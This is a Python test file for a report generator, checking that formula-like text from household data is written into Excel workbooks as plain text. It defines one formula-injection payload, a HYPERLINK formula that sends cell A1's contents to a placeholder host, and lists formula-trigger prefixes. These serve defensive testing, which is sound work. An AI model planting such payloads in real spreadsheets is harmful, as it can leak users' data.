"""Formula injection: text from data is written as text in every workbook (issue 17)."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from db.store import Store
from rasoat.cli import main
from reports.xlsx import render_xlsx
from tests.reports.test_render import _doc

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def formulas(path: Path) -> list[str]:
    """Every <f> element in the workbook's sheets (none may come from data)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                text = zf.read(name).decode("utf-8")
                found += [part.split("</f>")[0] for part in text.split("<f>")[1:]]
    return found


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_like_text_is_written_as_text(tmp_path: Path, start: str) -> None:
    name = f"{start}1+2" if start not in "=" else EVIL
    out = render_xlsx(_doc(3, name=name), tmp_path / "a.xlsx")
    assert formulas(out) == []
    ws = load_workbook(out)["Danh sách"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    if start in "\t\r":  # reports strip surrounding whitespace: nothing left to escape
        assert not any(c.value.startswith(start) for c in cells)
        return
    hits = [c for c in cells if c.value.startswith(name[:3])]
    assert len(hits) == 3
    assert all(c.data_type == "s" and c.quotePrefix for c in hits)


def test_numbers_and_ordinary_text_are_unchanged(tmp_path: Path) -> None:
    ws = load_workbook(render_xlsx(_doc(3), tmp_path / "a.xlsx"))["Danh sách"]
    numbers = [c for row in ws.iter_rows() for c in row if isinstance(c.value, int)]
    assert numbers
    assert not any(c.quotePrefix for c in numbers)


def test_a_household_name_from_data_stays_text_in_a_report(
    small_file: Path, tmp_path: Path
) -> None:
    path = shutil.copyfile(small_file, tmp_path / "xa.sqlite")
    with Store.open(path, user="t", device="t") as store:
        for h in list(store.iter_households()):
            for m in h.members:
                m.name = EVIL
            store.save_household(h)
    for kind in ("exchange_workbook", "detail_list", "meeting_list", "final_list"):
        out = tmp_path / f"{kind}.xlsx"
        assert main(["report", kind, str(path), "--out", str(out)]) == 0
        assert formulas(out) == [], kind


def test_a_control_character_in_data_is_printed_as_a_question_mark(tmp_path: Path) -> None:
    """An older file (or an append-only audit row) may hold an ESC: openpyxl refused the
    whole workbook (IllegalCharacterError, exit 70) and the PDF drew it as a box."""
    from reports.pdf import render_pdf

    out = render_xlsx(_doc(3, name="Lò\x1bVăn\x85Páo"), tmp_path / "a.xlsx")
    ws = load_workbook(out)["Danh sách"]
    assert "Lò?Văn?Páo 0" in [c.value for row in ws.iter_rows() for c in row]
    assert render_pdf(_doc(3, name="Lò\x1bVăn Páo"), tmp_path / "a.pdf").exists()
